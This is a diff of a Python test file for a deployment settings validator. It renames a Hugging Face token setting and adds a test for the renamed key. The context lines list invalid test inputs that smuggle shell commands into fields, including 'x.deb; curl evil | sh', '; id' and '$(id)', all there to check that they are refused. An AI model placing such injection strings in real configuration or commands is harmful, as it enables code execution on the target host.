@@ -97,7 +97,7 @@ SETTINGS = [
     ("rocm_version", "7.2.3; id", "7.2.1"),
     ("rocm_installer_deb", "x.deb; curl evil | sh", "amdgpu-install_7.2.3.70203-1_all.deb"),
     ("rocm_repo_base", "https://repo.radeon.com/$(id)", "file:///srv/rocm-repo"),
-    ("secrets_hf_token_src", "token\n", "secrets/hf-token"),
+    ("hf_token_src", "token\n", "secrets/hf-token"),
     ("tpu_shm_size", "128G\n", "64G"),
     ("vllm_chat_template_src", "t\r", "templates/tool_chat_template_gemma4.jinja"),
     ("vllm_chat_template_sha256", "abc", "0" * 64),
@@ -199,3 +199,17 @@ def test_the_replicas_stagger_is_a_timeout_in_seconds():
         "replicas_stagger_checks: renamed; write replicas_stagger_timeout, in seconds (it counted 2 s checks: "
         "double the value)"
     ]
+
+
+def test_the_hf_token_roles_key_under_its_former_prefix_is_refused_naming_the_new_one():
+    """The role was `secrets` (secrets_hf_token_src); an inventory still carrying that key is told what to write,
+    beside the other problems of the role's keys, never left with a token nothing uploads."""
+    from roles.hf_token import Settings
+
+    with pytest.raises(SpecError) as caught:
+        Settings.from_data({"secrets_hf_token_src": "token", "hf_token_file": "x"}, "h1")
+    assert caught.value.problems == [
+        "secrets_hf_token_src: renamed; write hf_token_src (the secrets role is now hf_token)",
+        "hf_token_file: unknown setting of the hf_token role; allowed: hf_token_src",
+    ]
+    assert Settings.from_data({"secrets_hf_token_src": None, "hf_token_src": "token"}).src == "token"
